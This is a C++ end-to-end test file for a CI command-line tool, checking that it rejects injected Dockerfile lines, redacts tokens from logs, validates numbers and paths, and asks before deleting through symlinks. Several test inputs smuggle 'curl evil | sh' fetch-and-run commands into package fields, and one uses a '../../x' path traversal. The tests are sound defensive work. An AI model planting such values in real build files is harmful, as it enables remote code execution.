#include <support/catch.hpp>
#include <support/helpers.hpp>
#include <support/read_only.hpp>

#include <breeze/base/strings.hpp>

#include <fmt/format.h>
#include <nlohmann/json.hpp>

#include <algorithm>

using namespace breeze;

// Issue 11 against the built binary: untrusted candidates cannot write Dockerfile.ci instructions,
// long work is never lost at the end, numbers are numbers, refresh-images asks before emptying a
// symlinked folder, tokens stay out of reports and logs, and no exception reaches the user.

namespace fs = std::filesystem;

namespace {

std::string fake_probe() { return std::string(BREEZE_TEST_SCRIPTS) + "/fake-probe"; }

// The lines of `text` that start with "error:".
std::size_t error_lines(const std::string& text) {
  auto lines = strings::split(text, '\n');
  return static_cast<std::size_t>(std::count_if(
      lines.begin(), lines.end(), [](const std::string& l) { return l.starts_with("error:"); }));
}

const std::string k_dockerfile = "FROM python:3.8-slim-bookworm\nARG "
                                 "EAGER_UPGRADE_ADDITIONAL_REQUIREMENTS=\"mypy<1.3\"\nRUN true\n";

struct Bisect {
  files::TempDir dir{"breeze-safety-e2e"};
  fs::path src = dir.path() / "src";
  fs::path dockerfile = src / "Dockerfile.ci";
  fs::path log = dir.path() / "probes.log";

  Bisect() { test::write_file(dockerfile, k_dockerfile); }

  // aiobotocore is the culprit of the fake probe's `seed` scenario.
  void candidates(const nlohmann::json& aiobotocore) {
    nlohmann::json doc{{"candidates", nlohmann::json::array()}};
    doc["candidates"].push_back(aiobotocore);
    doc["candidates"].push_back({{"name", "asana"}, {"pinned", "3.2.1"}, {"latest", "4.0.5"}});
    doc["candidates"].push_back({{"name", "tqdm"}, {"pinned", "4.66.0"}, {"latest", "4.66.1"}});
    test::write_file(dir.path() / "candidates.json", doc.dump());
  }
  test::BinaryResult run(const std::string& probe_command, std::vector<std::string> extra = {},
                         std::map<std::string, std::string> env = {}) {
    std::vector<std::string> args{"ci",
                                  "bisect-backtracking",
                                  "--candidates-file",
                                  "candidates.json",
                                  "--probe-command",
                                  probe_command,
                                  "--probe-timeout",
                                  "0.8"};
    args.insert(args.end(), extra.begin(), extra.end());
    env.emplace("FAKE_PROBE_LOG", log.string());
    env.emplace("TMPDIR", dir.path().string());
    return test::run_binary(args, env, dir.path());
  }
  test::BinaryResult run_seed(std::vector<std::string> extra = {}) {
    return run(fmt::format("'{}' seed 0.05 {{requirements}}", fake_probe()), std::move(extra));
  }
  [[nodiscard]] std::size_t probes_started() const {
    if (!fs::exists(log)) return 0;
    auto lines = strings::split(test::read_file(log), '\n');
    return static_cast<std::size_t>(std::count_if(
        lines.begin(), lines.end(), [](const std::string& l) { return l.starts_with("start "); }));
  }
};

} // namespace

TEST_CASE(
    "e2e: bisect-backtracking refuses candidates whose fields could write Dockerfile.ci lines",
    "[e2e][bisect][safety]") {
  const std::vector<nlohmann::json> hostile = {
      {{"name", "aiobotocore"}, {"pinned", "2.5.4"}, {"latest", "1.0\nRUN curl evil | sh"}},
      {{"name", "aiobotocore"},
       {"pinned", "2.5.4"},
       {"latest", "2.6.0\" && curl evil | sh && echo \""}},
      {{"name", "aiobotocore\nRUN curl evil | sh"}, {"pinned", "2.5.4"}, {"latest", "2.6.0"}},
      {{"name", "aio botocore"}, {"pinned", "2.5.4"}, {"latest", "2.6.0"}},
      {{"name", "aiobotocore"}, {"pinned", "2.5.4\nRUN curl evil | sh"}, {"latest", "2.6.0"}},
      {{"name", "aiobotocore"}, {"pinned", "2.5.4"}, {"latest", 7}},
  };
  for (const auto& candidate : hostile) {
    Bisect b;
    b.candidates(candidate);
    auto r = b.run_seed({"--apply", "--dockerfile", b.dockerfile.string()});
    INFO(candidate.dump() << "\nstderr: " << r.err);
    CHECK(r.exit_code == 1);
    CHECK(error_lines(r.err) == 1);
    CHECK(std::count(r.err.begin(), r.err.end(), '\n') == 1); // one line, nothing else
    CHECK_THAT(r.err, !Catch::Contains("terminate"));
    CHECK(b.probes_started() == 0);
    CHECK(test::read_file(b.dockerfile) == k_dockerfile); // byte-identical
  }
}

TEST_CASE("e2e: bisect-backtracking --apply writes normalised versions only",
          "[e2e][bisect][safety]") {
  Bisect b;
  // Valid PEP 440 spellings with surrounding whitespace: the file gets their normal form.
  b.candidates({{"name", "aiobotocore"}, {"pinned", " 2.5.4\n"}, {"latest", "v2.6.0\n"}});
  auto r = b.run_seed({"--apply", "--dockerfile", b.dockerfile.string()});
  INFO(r.err);
  REQUIRE(r.exit_code == 0);
  const auto text = test::read_file(b.dockerfile);
  CHECK_THAT(text,
             Catch::Contains(
                 "ARG EAGER_UPGRADE_ADDITIONAL_REQUIREMENTS=\"mypy<1.3 aiobotocore<2.6.0\"\n"));
  CHECK(std::count(text.begin(), text.end(), '\n') ==
        std::count(k_dockerfile.begin(), k_dockerfile.end(), '\n') + 1);
}

TEST_CASE("e2e: bisect-backtracking --apply checks the target is writable before the first probe",
          "[e2e][bisect][safety]") {
  Bisect b;
  b.candidates({{"name", "aiobotocore"}, {"pinned", "2.5.4"}, {"latest", "2.6.0"}});
  test::ImmutableDir read_only(b.src);
  if (!read_only.available()) {
    WARN(test::k_no_immutable);
    return;
  }
  auto r = b.run_seed({"--apply", "--dockerfile", b.dockerfile.string()});
  INFO(r.err);
  CHECK(r.exit_code == 1);
  CHECK(error_lines(r.err) == 1);
  CHECK_THAT(r.err,
             Catch::Contains("--apply cannot write") && Catch::Contains(b.dockerfile.string()));
  CHECK(b.probes_started() == 0); // no probe wasted
  CHECK(test::read_file(b.dockerfile) == k_dockerfile);
}

TEST_CASE("e2e: bisect-backtracking prints the whole report before a final write that fails",
          "[e2e][bisect][safety]") {
  Bisect b;
  b.candidates({{"name", "aiobotocore"}, {"pinned", "2.5.4"}, {"latest", "2.6.0"}});
  {
    test::ImmutableDir mechanism(b.src); // is chattr +i usable here at all?
    if (!mechanism.available()) {
      WARN(test::k_no_immutable);
      return;
    }
  }
  // The target is writable when checked; the first probe then makes its folder immutable, as a
  // disk going read-only or a permission change during hours of probes would.
  test::ClearImmutableAtExit cleanup{b.src};
  const auto probe = fmt::format(
      "sh -c 'chattr +i \"$0\"; exec \"$1\" seed 0.05 \"$2\"' '{}' '{}' {{requirements}}",
      b.src.string(), fake_probe());
  for (const auto* output : {"text", "json"}) {
    auto r = b.run(probe, {"--apply", "--dockerfile", b.dockerfile.string(), "--output", output});
    INFO(output << "\nstderr: " << r.err);
    CHECK(r.exit_code == 1);
    if (std::string(output) == "text") {
      CHECK_THAT(r.out, Catch::Contains("Culprit: aiobotocore<=2.5.4"));
      CHECK_THAT(r.out,
                 Catch::Contains("Add to Dockerfile.ci: ARG "
                                 "EAGER_UPGRADE_ADDITIONAL_REQUIREMENTS=\"aiobotocore<2.6.0\""));
      CHECK_THAT(r.out, Catch::Contains("NOT written to " + b.dockerfile.string()));
    } else {
      auto doc = nlohmann::json::parse(r.out);
      CHECK(doc["culprits"] == nlohmann::json{"aiobotocore<=2.5.4"});
      CHECK(doc["applied"]["result"] == "failed");
      CHECK(doc["add"] == "aiobotocore<2.6.0");
    }
    // The error comes last, after the report.
    const auto lines = strings::split(std::string(strings::trim(r.err)), '\n');
    CHECK_THAT(lines.back(),
               Catch::StartsWith("error: ") && Catch::Contains("--apply could not write"));
    CHECK(test::read_file(b.dockerfile) == k_dockerfile);
    CHECK(test::set_immutable(b.src, false)); // writable again for the next round
  }
}

TEST_CASE("e2e: tokens a probe prints reach no report, stream or probe log",
          "[e2e][bisect][safety]") {
  Bisect b;
  b.candidates({{"name", "aiobotocore"}, {"pinned", "2.5.4"}, {"latest", "2.6.0"}});
  const std::string token = "ghp_e2eSecretToken0123456789";
  const std::string password = "hunter2-userinfo-pass";
  // Every probe prints a URL with userinfo and the token from its environment, as a resolver's
  // error would; the `conflict` scenario's ==latest check fails, so its lines land in the report.
  const auto probe =
      fmt::format("sh -c 'echo \"ERROR: cannot fetch https://u:{}@pypi.example/simple with "
                  "$GITHUB_TOKEN\"; exec \"$0\" conflict 0.05 \"$1\"' "
                  "'{}' {{requirements}}",
                  password, fake_probe());
  for (const auto* output : {"text", "json"}) {
    auto r = b.run(probe, {"--output", output, "--verbose"}, {{"GITHUB_TOKEN", token}});
    INFO(r.out << "\n" << r.err);
    CHECK(r.exit_code == 0);
    CHECK_THAT(r.out,
               Catch::Contains("https://pypi.example/simple")); // the line is there, redacted
    for (const auto& secret : {token, password}) {
      CHECK_THAT(r.out, !Catch::Contains(secret));
      CHECK_THAT(r.err, !Catch::Contains(secret));
    }
  }
  std::size_t logs = 0;
  for (const auto& e : fs::recursive_directory_iterator(b.dir.path())) {
    if (!e.is_regular_file() || e.path().extension() != ".log" || e.path() == b.log) continue;
    ++logs;
    const auto text = test::read_file(e.path());
    CHECK_THAT(text, !Catch::Contains(token));
    CHECK_THAT(text, !Catch::Contains(password));
  }
  CHECK(logs > 0);
}

TEST_CASE("e2e: numeric options refuse nan, inf, negative and absurd values with one line, exit 2",
          "[e2e][safety][numbers]") {
  files::TempDir dir{"breeze-numbers-e2e"};
  test::write_file(dir.path() / "Dockerfile.ci", "FROM scratch\n");
  test::write_file(dir.path() / "Dockerfile", "FROM scratch\n");
  test::write_file(dir.path() / "airflow/__init__.py", "__version__ = \"2.10.0.dev0\"\n");
  const std::map<std::string, std::string> env{
      {"BREEZE_DOCKER", std::string(BREEZE_TEST_SCRIPTS) + "/fake-docker"},
      {"FAKE_DOCKER_LOG", (dir.path() / "docker.log").string()},
      {"-DOCKER_HOST", ""}};
  const std::vector<std::pair<std::vector<std::string>, std::string>> options = {
      {{"ci", "bisect-backtracking", "--probe-command", "x {requirements}"}, "--probe-timeout"},
      {{"ci", "bisect-backtracking", "--probe-command", "x {requirements}"}, "--parallelism"},
      {{"ci-image", "build"}, "--parallelism"},
      {{"ci-image", "build"}, "--build-timeout-minutes"},
      {{"ci-image", "build"}, "--uv-http-timeout"},
      {{"prod-image", "build"}, "--parallelism"},
      {{"prod-image", "build"}, "--build-timeout-minutes"},
      {{"prod-image", "build"}, "--uv-http-timeout"},
      {{"release-management", "generate-constraints"}, "--parallelism"},
      {{"ci", "refresh-images"}, "--parallelism"},
  };
  for (const auto& [command, option] : options) {
    for (const auto* value : {"nan", "inf", "-inf", "-1", "0", "1e12", "100000", "1e400", "ten"}) {
      auto args = command;
      args.insert(args.end(), {option, value});
      auto r = test::run_binary(args, env, dir.path());
      INFO(strings::join(args, " ") << "\nstderr: " << r.err);
      CHECK(r.exit_code == 2);
      CHECK(error_lines(r.err) == 1);
      CHECK_THAT(r.err, Catch::Contains(option) && Catch::Contains(value));
    }
  }
  CHECK_FALSE(fs::exists(dir.path() / "docker.log")); // nothing ran
  // The build timeout's environment variable follows the same rule.
  for (const auto* value : {"nan", "inf", "-1", "0", "1e12"}) {
    auto with = env;
    with["BREEZE_BUILD_TIMEOUT_SECONDS"] = value;
    auto r = test::run_binary({"ci-image", "build", "--python", "3.12"}, with, dir.path());
    INFO(value << "\nstderr: " << r.err);
    CHECK(r.exit_code == 2);
    CHECK(error_lines(r.err) == 1);
    CHECK_THAT(r.err, Catch::Contains("BREEZE_BUILD_TIMEOUT_SECONDS"));
    CHECK(test::read_file(dir.path() / "docker.log").find("[build]") == std::string::npos);
  }
}

TEST_CASE("e2e: breeze version with HOME unset and TMPDIR missing works instead of aborting",
          "[e2e][safety]") {
  auto r = test::run_binary(
      {"version"}, {{"-HOME", ""}, {"-XDG_CACHE_HOME", ""}, {"TMPDIR", "/nonexistent/breeze-tmp"}});
  INFO(r.err);
  CHECK(r.exit_code == 0);
  CHECK_THAT(r.out, Catch::Contains("breeze version: "));
  CHECK(r.err.empty());
}

namespace {

struct Refresh {
  files::TempDir dir{"breeze-refresh-e2e"};
  fs::path root = dir.path() / "airflow";
  fs::path elsewhere = dir.path() / "precious";
  fs::path log = dir.path() / "docker.log";
  Refresh() {
    test::write_file(root / "Dockerfile.ci", "FROM scratch\n");
    test::write_file(root / "Dockerfile", "FROM scratch\n");
    test::write_file(root / "airflow/__init__.py", "__version__ = \"2.10.0.dev0\"\n");
    test::write_file(root / "breeze.yaml", "package-build-command: mkdir -p dist && echo wheel > "
                                           "dist/apache_airflow-2.10.0-py3-none-any.whl\n");
    test::write_file(elsewhere / "keep-me.whl", "not breeze's\n");
    fs::create_directory_symlink(elsewhere, root / "docker-context-files");
    test::write_file(dir.path() / "docker-config/config.json",
                     R"({"auths": {"ghcr.io": {"auth": "dXNlcjp0b2tlbg=="}}})");
  }
  test::BinaryResult run(std::vector<std::string> extra) {
    std::vector<std::string> args{"ci",   "refresh-images", "--python-versions",
                                  "3.12", "--platform",     "linux/amd64"};
    args.insert(args.end(), extra.begin(), extra.end());
    return test::run_binary(args,
                            {{"BREEZE_DOCKER", std::string(BREEZE_TEST_SCRIPTS) + "/fake-docker"},
                             {"FAKE_DOCKER_LOG", log.string()},
                             {"FAKE_DOCKER_BUILDERS", "airflow_cache"},
                             {"DOCKER_CONFIG", (dir.path() / "docker-config").string()},
                             {"-DOCKER_HOST", ""}},
                            root);
  }
  [[nodiscard]] bool built() const {
    return fs::exists(log) && test::read_file(log).find("[build]") != std::string::npos;
  }
};

} // namespace

TEST_CASE("e2e: ci refresh-images asks before emptying a docker-context-files/ that is a symlink",
          "[e2e][docker][safety]") {
  SECTION("no terminal and no --answer: refused before anything is built or deleted") {
    Refresh t;
    auto r = t.run({});
    INFO(r.err);
    CHECK(r.exit_code == 2);
    CHECK_THAT(r.err, Catch::Contains("--answer"));
    CHECK(fs::exists(t.elsewhere / "keep-me.whl"));
    CHECK_FALSE(t.built());
  }
  SECTION("--answer no: says so, builds and deletes nothing, exit 1") {
    Refresh t;
    auto r = t.run({"--answer", "no"});
    INFO(r.err);
    CHECK(r.exit_code == 1);
    CHECK_THAT(r.err, Catch::Contains("is a symlink to " + t.elsewhere.string()));
    CHECK(fs::exists(t.elsewhere / "keep-me.whl"));
    CHECK_FALSE(t.built());
  }
  SECTION("--dry-run: says what it would delete, deletes nothing") {
    Refresh t;
    auto r = t.run({"--dry-run"});
    INFO(r.err);
    CHECK(r.exit_code == 0);
    CHECK_THAT(r.out,
               Catch::Contains("docker-context-files/ is a symlink to " + t.elsewhere.string()) &&
                   Catch::Contains("would delete the 1 file(s)"));
    CHECK(fs::exists(t.elsewhere / "keep-me.whl"));
  }
  SECTION("--answer yes: proceeds, and says where it deletes") {
    Refresh t;
    auto r = t.run({"--answer", "yes"});
    INFO(r.err);
    CHECK(r.exit_code == 0);
    CHECK_THAT(r.err, Catch::Contains("is a symlink to " + t.elsewhere.string()));
    CHECK_FALSE(fs::exists(t.elsewhere / "keep-me.whl"));
    CHECK(fs::exists(t.elsewhere / "apache_airflow-2.10.0-py3-none-any.whl"));
  }
}

TEST_CASE("e2e: a Python version from breeze.yaml or the environment cannot name a path",
          "[e2e][safety]") {
  files::TempDir dir{"breeze-python-e2e"};
  test::write_file(dir.path() / "Dockerfile.ci", "FROM scratch\n");
  test::write_file(dir.path() / "breeze.yaml",
                   "registry: ghcr.io\npython-versions:\n  - '3.12'\n  - '../../x'\n");
  auto r = test::run_binary(
      {"release-management", "generate-constraints", "--python", "../../x", "--dry-run"}, {},
      dir.path());
  CHECK(r.exit_code == 2);
  CHECK(std::count(r.err.begin(), r.err.end(), '\n') == 1);
  CHECK_THAT(r.err, Catch::Contains("breeze.yaml:4: ") &&
                        Catch::Contains("'../../x' is not a Python version"));

  test::write_file(dir.path() / "breeze.yaml", "registry: ghcr.io\n");
  auto env = test::run_binary({"version"}, {{"BREEZE_PYTHON_VERSIONS", "3.12,../x"}}, dir.path());
  CHECK(env.exit_code == 2);
  CHECK_THAT(env.err, Catch::Contains("BREEZE_PYTHON_VERSIONS: '../x' is not a Python version"));
  CHECK_FALSE(fs::exists(dir.path() / "x"));
  CHECK_FALSE(fs::exists(dir.path().parent_path() / "x"));
}
